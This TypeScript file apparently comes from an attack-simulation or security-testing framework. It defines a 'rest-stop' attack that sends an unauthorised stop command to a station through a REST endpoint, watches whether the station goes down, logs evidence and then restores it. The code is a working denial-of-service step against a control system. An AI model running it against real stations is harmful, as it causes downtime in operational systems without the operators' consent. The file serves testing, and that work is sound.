/**
 * Unauthorized command message on the REST API: `POST /api/commands` with the station's stop
 * command, without credentials (or with an account the attacker holds).
 */
import { T } from '../techniques.ts';
import { restCommand, why } from '../clients/rest.ts';
import type { Attack } from '../types.ts';
import { before, restore, trail, watch } from './common.ts';

export const restStop: Attack = {
  id: 'rest-stop',
  title: 'REST stop command: POST /api/commands {"target":<station>,"command":"stop"}',
  techniques: [T.unauthorizedCommandMessage],
  face: 'rest',
  preconditions: ['network reach to the web port', 'no credentials on a weak profile, or an account the attacker holds'],
  steps: ['POST /api/commands with the station\'s stop command (JSON)', 'watch the station'],
  expectedImpact: 'the station stops: downtime until an operator restarts it',
  async run(ctx) {
    const evidence: string[] = [];
    const was = await before(ctx);
    const a = await restCommand(ctx.target, { target: ctx.station, command: 'stop' }, ctx.credentials);
    evidence.push(`REST: POST /api/commands stop ${ctx.station} → ${a.status === 200 ? '200 ok' : why(a)}`);
    const w = await watch(ctx, a.status === 200 ? ctx.watchMs : 0);
    await trail(ctx, evidence, a.status !== 200);
    const stopped = w.last !== null ? ['Stopping', 'Stopped'].some((s) => w.states.includes(s)) : a.status === 200;
    return {
      outcome: a.status === 200 && stopped ? 'succeeded' : 'blocked',
      evidence,
      impact: { status: a.status, stateBefore: was?.state ?? null, states: w.states, stateAfter: w.last?.state ?? null, downtimeS: w.downtimeS, watchedS: w.watchedS },
    };
  },
  cleanup: restore,
};
